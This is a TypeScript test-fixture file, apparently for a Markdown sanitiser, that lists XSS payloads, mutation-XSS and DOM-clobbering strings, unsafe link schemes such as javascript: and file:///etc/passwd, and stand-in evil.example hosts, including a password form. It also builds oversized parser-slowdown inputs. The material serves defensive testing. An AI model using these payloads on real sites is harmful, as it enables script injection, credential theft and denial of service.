// What strangers may send as a text for the gallery: things that would run, in every place of Markdown, and texts that take long.

const pieces: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "//evil.example"</style>',
  '<style><!--</style><script>alert(1)//--></style>',
  '<form action=//evil.example><input name=password><button>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<object data=x><embed src=x>',
  '<!-- <script>alert(1)</script> -->',
  '<!--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a id=location name=location href=javascript:alert(1)>x</a>',
  '<form id=document><input id=cookie></form>',
  '<p id="x" class="y" style="position:fixed">z',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '" onmouseover="alert(1)',
  '" onmouseover=alert(1) x="',
  '``` " onclick=alert(1)',
  '</code></pre><script>alert(1)</script>',
  '</textarea></title><script>alert(1)</script>',
  '\u202egnp.exe \u2066x\u2069 \u200f',
  '&#x202e;&#8238;&rlm;&lrm;',
  '\0<scr\0ipt>alert(1)</script>',
  '\u2028<script>\u2029',
  '<\u0000script>',
  '\ud800<script>\udfff',
  '{{constructor.constructor("alert(1)")()}}',
]

/** Addresses that lead to no place on the web. */
export const unsafeAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'javascript&#58;alert(1)',
  'javascript:%61lert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/png;base64,iVBORw0KGgo=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://example.com/x',
  'view-source:https://example.com',
  'ftp://example.com/x',
  'feed:https://example.com',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'https:evil.example',
  'https:/evil.example',
  'http:///evil.example',
  'https://',
  'https://[',
  'mailto:',
  '/v2/',
  '#location',
  '?next=//evil.example',
  'x:y',
  'tel:+1',
]

const places: readonly ((piece: string) => string)[] = [
  (piece) => piece,
  (piece) => `words ${piece} words`,
  (piece) => `# ${piece}`,
  (piece) => `- ${piece}\n  - [ ] ${piece}`,
  (piece) => `> ${piece}`,
  (piece) => `| a | ${piece} |\n|---|---|\n| ${piece} | b |`,
  (piece) => `**${piece}** ~~${piece}~~ *${piece}*`,
  (piece) => `[${piece}](https://example.com)`,
  (piece) => `[[${piece}](https://a.example)](https://b.example)`,
  (piece) => `[x](https://example.com "${piece}")`,
  (piece) => `[x](https://example.com/${piece})`,
  (piece) => `![${piece}](https://example.com/x.png '${piece}')`,
  (piece) => `[x]\n\n[x]: https://example.com '${piece}'`,
  (piece) => `\`\`\`${piece}\n${piece}\n\`\`\``,
  (piece) => `\`${piece}\` and\n\n    ${piece}`,
]

const ways: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x]\n\n[x]: ${address}`,
  (address) => `[x]\n\n[x]: <${address}>`,
  (address) => `<${address}>`,
  (address) => `see ${address} there`,
]

/** Every piece in every place, every address in every way of linking. */
export const hostileTexts: readonly string[] = [
  ...pieces.flatMap((piece) => places.map((place) => place(piece))),
  ...unsafeAddresses.flatMap((address) => ways.map((way) => way(address))),
]

/** What random texts are put together from. */
export const fragments: readonly string[] = pieces.concat(
  unsafeAddresses,
  '[ ] ( ) ]( ![ < > " \' \\ ` ``` ~ ~~ * ** _ & | |-|-| # : x https://example.com www.example.com a@example.com'.split(
    ' ',
  ),
  ['\n', '\n\n', '- ', '1. ', '> ', '    ', '[ ] ', '[x]: ', ' '],
)

const charsMax = 25_600

/** `piece` again and again, to the largest size that the API takes. */
const filledWith = (piece: string) => piece.repeat(Math.ceil(charsMax / piece.length)).slice(0, charsMax)

const tableOf = (columns: number) => {
  const head = `${'|a'.repeat(columns)}\n${'|-'.repeat(columns)}\n`
  return head + filledWith('|\n').slice(head.length)
}

/** Texts of the largest size that a parser may be slow over. */
export const bombs: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    ['[', '*', '>', '> ', '>\n', '_', '~', '`', '`a', '![', '![[]()', '[^', '[a][', '[]('].map((piece) => [
      piece,
      filledWith(piece),
    ]),
  ),
  ...Object.fromEntries(
    ['*a **a ', 'a**b*c ', '***a** ', '*_~', '- ', '1. ', '> - ', '# a\n', 'a\n=\n', '<', '<a ', '<!--', '&', '&#'].map(
      (piece) => [piece, filledWith(piece)],
    ),
  ),
  ...Object.fromEntries(
    ['www.', 'http://a.b ', 'a@b.', '[a](http://x.y) ', '[a](x "', '[a]:\n', '\u202e', '|'].map((piece) => [
      piece,
      filledWith(piece),
    ]),
  ),
  'brackets in brackets': '['.repeat(charsMax / 2) + ']'.repeat(charsMax / 2),
  'a reference used often': `[a]: https://example.com\n\n${filledWith('[a]')}`.slice(0, charsMax),
  'many references': Array.from({ length: 2000 }, (_, index) => `[${index}]: a`).join('\n'),
  'backticks of every length': Array.from({ length: 220 }, (_, index) => '`'.repeat(index)).join(' '),
  'lists in lists': Array.from({ length: 155 }, (_, index) => `${'  '.repeat(index)}- a`).join('\n'),
  'a table of 10,000 columns': `${'|'.repeat(10_000)}\n${'|-'.repeat(5000)}|\n${'|'.repeat(5000)}`,
  'a table of 4,000 columns': tableOf(4000),
  'a table of 1,000 columns and 10,000 rows': tableOf(1000),
  'a table of 250 columns': tableOf(250),
}
